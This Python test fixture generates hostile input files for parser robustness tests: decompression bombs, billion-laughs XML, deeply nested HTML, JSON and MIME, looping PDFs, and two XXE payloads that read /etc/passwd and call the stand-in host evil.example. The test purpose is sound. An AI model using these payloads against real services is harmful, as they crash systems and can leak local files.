"""Files made to hang, fill or crash what reads them: name and bytes of each.

They are a tenth as large as they can be, which is what a test has time for; `BOMB_SCALE=1` makes them whole.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

BODY = "The ferry turned over in the narrows on Thursday. Twelve people died, the coastguard said."
MIB = 1024 * 1024
SCALE = float(os.environ.get("BOMB_SCALE", "0.1"))
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def scale(count: int) -> int:
    """A count for a bomb as large as it can be, made smaller."""
    return max(int(count * SCALE), 1)


def pack(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return stream.getvalue()


def nest_zip(levels: int, width: int) -> bytes:
    data = pack({"a.txt": b"\0" * MIB})
    for _ in range(levels):
        data = pack({f"{number}.zip": data for number in range(width)})
    return data


def overlap_zip(count: int) -> bytes:
    """Many entries in the directory, one file behind all of them."""
    packed = zlib.compress(b"a" * 200_000)[2:-4]
    sizes = struct.pack("<III", zlib.crc32(b"a" * 200_000), len(packed), 200_000)
    local = (
        b"PK\3\4"
        + struct.pack("<HHHHH", 20, 0, 8, 0, 33)
        + sizes
        + struct.pack("<HH", 5, 0)
        + b"a.txt"
        + packed
    )
    directory = b"".join(
        b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        + struct.pack("<HHHHHII", 8, 0, 0, 0, 0, 0, 0) + f"{number:04}.txt".encode()
        for number in range(count)
    )  # fmt: skip
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + end


def lie_zip(size: int) -> bytes:
    """A member that says it is `size` bytes long."""
    data = pack({"a.txt": b"x" * 5_000})
    return data.replace((5_000).to_bytes(4, "little"), size.to_bytes(4, "little"))


def squeeze(times: int) -> bytes:
    """Zeros packed by gzip, in `times` members of 10 MiB each."""
    return gzip.compress(b"\0" * (10 * MIB), mtime=0) * times


def make_tar(*entries: tarfile.TarInfo, rest: bytes = b"") -> bytes:
    return b"".join(entry.tobuf(tarfile.GNU_FORMAT) for entry in entries) + rest + b"\0" * 1024


def make_entry(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "") -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.size, entry.linkname = kind, size, link
    return entry


def make_sparse_tar() -> bytes:
    """An old GNU sparse file: no data, and a terabyte of zeros when unpacked."""
    block = bytearray(make_entry("a.txt", tarfile.GNUTYPE_SPARSE).tobuf(tarfile.GNU_FORMAT))
    block[386:410] = b"00000000000\0" * 2  # one empty piece at the start
    block[483:495] = b"\x80" + (1 << 40).to_bytes(11, "big")  # the real size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + b"\0" * 1024


def make_pax_sparse_tar() -> bytes:
    entry = make_entry("a.txt")
    entry.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.realsize": str(1 << 40),
    }
    return entry.tobuf(tarfile.PAX_FORMAT) + b"\0" * 1024


def make_pdf(objects: list[str | bytes], trailer: str = "/Root 1 0 R") -> bytes:
    out = b"%PDF-1.5\n"
    offsets = []
    for number, entry in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + (entry.encode() if isinstance(entry, str) else entry) + b"endobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return (
        out
        + f"trailer<</Size {len(objects) + 1}{trailer.replace('START', str(start))}>>\n".encode()
        + f"startxref\n{start}\n%%EOF".encode()
    )


def draw(content: str, more: tuple[str | bytes, ...] = (), resources: str = "") -> bytes:
    return make_pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 1/Kids[3 0 R]>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<<{resources}>>/Contents 4 0 R>>",
            f"<</Length {len(content)}>>stream\n{content}\nendstream",
            *more,
        ]
    )


def stream_pdf(levels: int) -> bytes:
    """A page whose drawing unfolds, through filters upon filters."""
    data = b" " * scale(300 * MIB if levels == 1 else 100 * MIB)
    for _ in range(levels):
        data = zlib.compress(data, 1)
    filters = "/FlateDecode " * levels
    stream = f"<</Length {len(data)}/Filter[{filters}]>>stream\n".encode() + data + b"\nendstream"
    head: list[str | bytes] = [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
    ]
    return make_pdf([*head, stream])


def feed(items: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<rss><channel><title>G</title>{items}</channel></rss>'.encode()


def laugh(levels: int = 10) -> str:
    entities = '<!ENTITY a0 "lolololololololol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)
    )
    return f"<!DOCTYPE rss [{entities}]>"


def nest_mime(levels: int) -> bytes:
    head = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(levels))
    return f"Subject: F\r\nMIME-Version: 1.0\r\n{head}\r\n{BODY}\r\n".encode()


def attach(name: str, data: bytes) -> bytes:
    return (
        b"Subject: F\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\n"
        + BODY.encode()
        + f"\r\n--x\r\nContent-Disposition: attachment; filename={name}\r\n".encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(data)
        + b"\r\n--x--\r\n"
    )


def make_book(references: int) -> bytes:
    """A book whose one chapter stands in it over and over."""
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="a.opf"/></rootfiles></container>'
    )
    spine = '<itemref idref="a"/>' * references
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml"/></manifest>'
        f"<spine>{spine}</spine></package>"
    )
    words = " ".join(f"{zlib.crc32(b'%d' % number):08x}" for number in range(200))  # they pack badly
    chapter = f"<html><body><h1>F</h1><p>{words}</p></body></html>"
    files = {"META-INF/container.xml": container, "a.opf": package, "a.xhtml": chapter}
    return pack({name: text.encode() for name, text in files.items()})


def warc(length: int, body: bytes = b"", more: str = "") -> bytes:
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://g.example/1\r\nWARC-Record-ID: <urn:uuid:1>\r\n"
        f"WARC-Date: 2026-03-05T10:00:00Z\r\nContent-Type: application/http\r\nContent-Length: {length}\r\n\r\n"
        f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{more}\r\n"
    )
    return head.encode() + body


def encode_warc() -> bytes:
    """An answer whose own encoding unfolds to 300 MiB."""
    body = squeeze(30)
    return warc(len(body) + 70, body, "Content-Encoding: gzip\r\n")


PAGE = "<html><body><article><h1>Ferry</h1>{}</article></body></html>"
BOMBS: dict[str, Callable[[], bytes]] = {
    # archives
    "flat.zip": lambda: pack({"a.txt": b"\0" * (100 * MIB)}),
    "nested.zip": lambda: nest_zip(3, 10),
    "deep.zip": lambda: nest_zip(30, 1),
    "overlapping.zip": lambda: overlap_zip(900),
    "overlapping-more.zip": lambda: overlap_zip(20_000),
    "members.zip": lambda: pack({f"{number}.txt": b"" for number in range(10_000)}),
    "says-less.zip": lambda: lie_zip(5),
    "says-4-gib.zip": lambda: lie_zip(0xFFFFFFF0),
    "bzip2.zip": lambda: pack({"a.txt": b"\0" * (100 * MIB)}, zipfile.ZIP_BZIP2),
    "lzma.zip": lambda: pack({"a.txt": b"\0" * (50 * MIB)}, zipfile.ZIP_LZMA),
    "lzma-dictionary.zip": lambda: pack({"a.txt": b"abc" * 9}, zipfile.ZIP_LZMA).replace(
        b"\x5d\0\0\x80\0", b"\x5d\xff\xff\xff\xff"
    ),
    "long-names.zip": lambda: pack({"n" * 60_000 + f"{number}.txt": b"x" for number in range(50)}),
    "sparse.tar": make_sparse_tar,
    "sparse-pax.tar": make_pax_sparse_tar,
    "says-a-terabyte.tar": lambda: make_tar(make_entry("a.txt", size=1 << 40)),
    "below-zero.tar": lambda: make_tar(make_entry("a.txt")).replace(b"00000000000\0", b"\xff" * 12, 1),
    "members.tar": lambda: make_tar(*(make_entry(f"{number}.txt") for number in range(5_000))),
    "links.tar": lambda: make_tar(
        make_entry("a.txt", tarfile.LNKTYPE, link="b.txt"), make_entry("b.txt", tarfile.SYMTYPE, link="a.txt")
    ),
    "long-name-chain.tar": lambda: make_tar(*(make_entry("x", tarfile.GNUTYPE_LONGNAME) for _ in range(5_000))),
    "pax-chain.tar": lambda: make_tar(*(make_entry("x", tarfile.XHDTYPE) for _ in range(5_000))),
    "zeros.tar.gz": lambda: gzip.compress(make_tar(make_entry("a.txt", size=100 * MIB), rest=b"\0" * (100 * MIB))),
    # compression
    "zeros.html.gz": lambda: squeeze(30),
    "again.txt.gz": lambda: gzip.compress(gzip.compress(squeeze(30))),
    "empty-members.txt.gz": lambda: gzip.compress(b"", mtime=0) * scale(100_000),
    "zeros.txt.bz2": lambda: bz2.compress(b"\0" * (100 * MIB)),
    "zeros.txt.xz": lambda: lzma.compress(b"\0" * (100 * MIB), preset=0),
    "dictionary.txt.xz": lambda: b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\x02\0\x21\x01\x28\0\0\0" + b"\0" * 64,
    # pages
    "deep.html": lambda: (PAGE.format("<div>" * scale(200_000) + BODY)).encode(),
    "formatting.html": lambda: PAGE.format("<b><i><font><a>" * scale(20_000) + BODY + "<p>" * scale(20_000)).encode(),
    "tables.html": lambda: PAGE.format("<table><tr><td>" * scale(20_000) + BODY).encode(),
    "attributes.html": lambda: PAGE.format(
        "<p " + " ".join(f"a{n}=1" for n in range(scale(50_000))) + f">{BODY}"
    ).encode(),
    "entities.html": lambda: PAGE.format(f"<p>{BODY}" + "&amp;&#x202e;&NotEqualTilde;" * scale(100_000)).encode(),
    "hidden.html": lambda: PAGE.format(f"<p>{BODY}" + "<div hidden style='display:none'>x" * scale(50_000)).encode(),
    "styles.html": lambda: PAGE.format(
        "<style>" + "/*" * scale(50_000) + ".a{" * scale(100_000) + f"</style><p>{BODY}"
    ).encode(),
    "classes.html": lambda: PAGE.format(
        "<style>" + "".join(f".c{n}{{display:none}}" for n in range(scale(10_000))) + "</style>"
        + "".join(f"<p class=c{n}>x" for n in range(scale(20_000)))
    ).encode(),
    "comments.html": lambda: PAGE.format("<!--" * scale(200_000) + BODY).encode(),
    "linked-deep.html": lambda: PAGE.format(
        f'<script type="application/ld+json">{"[" * scale(100_000)}</script><p>{BODY}'
    ).encode(),
    "linked-cycle.html": lambda: PAGE.format(
        '<script type="application/ld+json">{"@graph":[{"@id":"a","@type":"NewsArticle","author":{"@id":"b"}},'
        f'{{"@id":"b","author":{{"@id":"a"}}}}]}}</script><p>{BODY}'
    ).encode(),
    "paragraphs.html": lambda: PAGE.format(f"<p>{BODY}</p>" * scale(30_000)).encode(),
    # JSON, tables
    "deep.json": lambda: b"[" * scale(1_000_000),
    "deep-objects.json": lambda: b'{"a":' * scale(200_000),
    "digits.json": lambda: b'{"title": "F", "text": ' + b"9" * scale(2_000_000) + b"}",
    "wide.json": lambda: b"[" + b"{}," * scale(2_000_000) + b"{}]",
    "keys.json": lambda: json.dumps({f"k{n}": "x" for n in range(scale(300_000))}).encode(),
    "escapes.json": lambda: b'{"title":"F","text":"' + b"\\u202e" * scale(1_000_000) + b'"}',
    "deep-line.jsonl": lambda: b'{"text":' * scale(100_000) + b"\n" + json.dumps({"title": "F", "text": BODY}).encode(),
    "cell.csv": lambda: b'title,text\nF,"' + b"x" * (6 * MIB) + b'"\n',
    "columns.csv": lambda: b"title,text," + b"a," * scale(200_000) + b"\n" + b"x," * scale(200_000),
    "quotes.csv": lambda: b"title,text\n" + b'"' * scale(3_000_001),
    # XML
    "laughs.rss": lambda: feed("<item><title>&a9;</title><description>&a9;</description></item>", laugh()),
    "laughs.xml": lambda: f"{laugh()}<newsItem><inlineXML><p>&a9;</p></inlineXML></newsItem>".encode(),
    "laughs.docx": lambda: pack(
        {
            "word/document.xml": f"{laugh()}<w:document {W}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body>"
            "</w:document>".encode()
        }
    ),
    "quadratic.rss": lambda: feed(
        "<item><title>F</title><description>" + "&a;" * scale(20_000) + "</description></item>",
        f'<!DOCTYPE rss [<!ENTITY a "{"a" * scale(20_000)}">]>',
    ),
    "outside.rss": lambda: feed(
        f"<item><title>&x;</title><description>{BODY}</description></item>",
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/"> %y;]>',
    ),
    "outside.odt": lambda: pack(
        {"content.xml": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'}
    ),
    "deep.rss": lambda: feed("<item>" + "<a>" * scale(100_000)),
    "deep.newsml": lambda: b"<newsItem><inlineXML>" + b"<p>" * scale(100_000),
    "items.rss": lambda: feed("<item/>" * scale(60_000)),
    "parts.docx": lambda: pack({"word/document.xml": b"<" * 1_000 + b" " * (30 * MIB)}),
    "runs.docx": lambda: pack(
        {"word/document.xml": f"<w:document {W}><w:body>{'<w:p><w:r/></w:p>' * scale(50_000)}".encode()}
    ),
    "spine.epub": lambda: make_book(scale(100_000)),
    # PDF
    "tree-loop.pdf": lambda: make_pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"]),
    "pages.pdf": lambda: make_pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 2000000000/Kids[]>>"]),
    "table-loop.pdf": lambda: make_pdf(["<</Type/Catalog/Pages 2 0 R>>", "<<>>"], "/Root 1 0 R/Prev START"),
    "form-loop.pdf": lambda: draw(
        "/X Do",
        ("<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 5>>stream\n/X Do\n"
         "endstream",),
        "/XObject<</X 5 0 R>>",
    ),
    "stream.pdf": lambda: stream_pdf(1),
    "streams.pdf": lambda: stream_pdf(3),
    "nesting.pdf": lambda: draw("[" * scale(500_000) + "q " * scale(500_000)),
    # mail
    "deep.eml": lambda: nest_mime(2_000),
    "forwarded.eml": lambda: b"Subject: F\r\nContent-Type: message/rfc822\r\n\r\n" * 2_000 + BODY.encode(),
    "parts.eml": lambda: (
        b"Subject: F\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + b"--x\r\n\r\na\r\n" * scale(50_000)
    ),
    "header.eml": lambda: b"Subject: " + b"=?utf-8?q?=C3=BC?= " * scale(30_000) + b"\r\n\r\n" + BODY.encode(),
    "folded.eml": lambda: b"Subject: a\r\n" + b" a\r\n" * scale(100_000) + b"\r\n" + BODY.encode(),
    "addresses.eml": lambda: b"Subject: F\r\nFrom: " + b"(" * scale(50_000) + b"\r\n\r\n" + BODY.encode(),
    "attached.eml": lambda: attach("a.zip", pack({"a.txt": b"\0" * (50 * MIB)})),
    "separators.mbox": lambda: b"From a\nSubject: F\n\n" * scale(30_000),
    "quoted.eml": lambda: b"Subject: F\r\n\r\n" + b"On " * scale(50_000) + b"\r\n" + b"On x wrote\r\n" * scale(20_000),
    # text
    "line.txt": lambda: b"word " * max(scale(2_000_000), 250_000),
    "letters.txt": lambda: b"a" * scale(15 * MIB),
    "blank.txt": lambda: b"a\n" + b" \n" * scale(3_000_000) + b"b",
    "spaces.txt": lambda: b"a" + b" " * scale(16 * MIB) + b"b",
    "escapes.txt": lambda: (b"\x1b]" * scale(1_000_000)) + BODY.encode(),
    "keys.txt": lambda: b"Title: " * scale(300_000) + b"\n\n" + BODY.encode(),
    "accents.txt": lambda: ("a" + "\u0301" * scale(1_000_000) + BODY).encode(),
    "masked.txt": lambda: ("1\u041e." * scale(500_000) + "x " + BODY).encode(),
    "brackets.md": lambda: b"[" * scale(50_000) + b"](" * scale(50_000),
    "stars.md": lambda: b"*a_ " * scale(50_000),
    "ticks.md": lambda: b"".join(b"`" * n + b" " for n in range(1, 700)),
    "quotes.md": lambda: b"> " * scale(20_000) + BODY.encode(),
    "front.md": lambda: b"---\n" + b"a: b\n" * scale(200_000),
    # crawls
    "says-a-terabyte.warc": lambda: warc(1 << 40, BODY.encode()),
    "below-zero.warc": lambda: warc(-1, BODY.encode()),
    "encoded.warc": encode_warc,
    "zeros.warc.gz": lambda: squeeze(30),
    "says-a-terabyte.arc": lambda: (
        b"http://g.example/ 1.1.1.1 20260305100000 text/html 1099511627776\nHTTP/1.1 200 OK\r\n\r\nx"
    ),
    "empty-records.arc": lambda: b"http://g.example/ 1.1.1.1 20260305100000 text/html 0\n" * scale(50_000),
}  # fmt: skip
